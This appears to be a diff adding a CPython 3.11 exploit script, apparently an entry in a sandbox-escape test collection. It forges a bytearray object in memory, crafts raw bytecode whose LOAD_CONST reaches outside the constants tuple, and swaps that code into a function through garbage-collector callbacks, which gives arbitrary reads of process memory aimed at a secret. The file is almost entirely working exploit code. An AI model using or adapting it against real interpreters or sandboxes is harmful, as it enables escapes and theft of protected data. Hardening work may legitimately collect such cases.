@@ -1,0 +1,38 @@
+# Where types.coroutine has lifted the guard, code.replace is open to the cell: all of memory.
+# breach: secret
+# state: kept
+# only: 3.11
+import dis, random, struct, timeit, types
+gc, os, done = timeit.gc, random._os, []
+def address(data):
+    return id(data) + bytes.__basicsize__ - 1
+def distance(constants, pointer):
+    return (address(pointer) - id(constants) - tuple.__basicsize__) // 8
+fake = struct.pack("nPnnPPn", 2**20, id(bytearray), 2**63 - 1, 2**63 - 1, 0, 0, 0)
+tuples = [(i, 1.5) for i in range(2000)]
+pointers = [struct.pack("P", address(fake)) for i in range(40000)]
+constants, at = next((t, distance(t, p)) for t in tuples for p in pointers
+                     if 0 <= distance(t, p) < 2**32)
+op = dis.opmap
+load = b"".join(bytes([op["EXTENDED_ARG"], at >> shift & 255]) for shift in (24, 16, 8))
+code = bytes([op["RESUME"], 0]) + load + bytes([op["LOAD_CONST"], at & 255, op["RETURN_VALUE"], 0])
+def read():
+    pass
+def make(phase, info):
+    try:
+        os.stat(SECRET_FILE)
+        done.append(read.__code__.replace(co_code=code, co_consts=constants))
+    except OSError:
+        pass
+gc.callbacks.append(make)
+gc.set_threshold(1, 1, 1)
+kept = []
+for i in range(2000):
+    def generator():
+        yield
+    kept.append([[] for _ in range(i % 3)])
+    kept.append(types.coroutine(generator))
+gc.callbacks.clear()
+gc.set_threshold(700, 10, 10)
+read.__code__ = done[0]
+bytes(read()[SECRET_ADDRESS:SECRET_ADDRESS + 60])
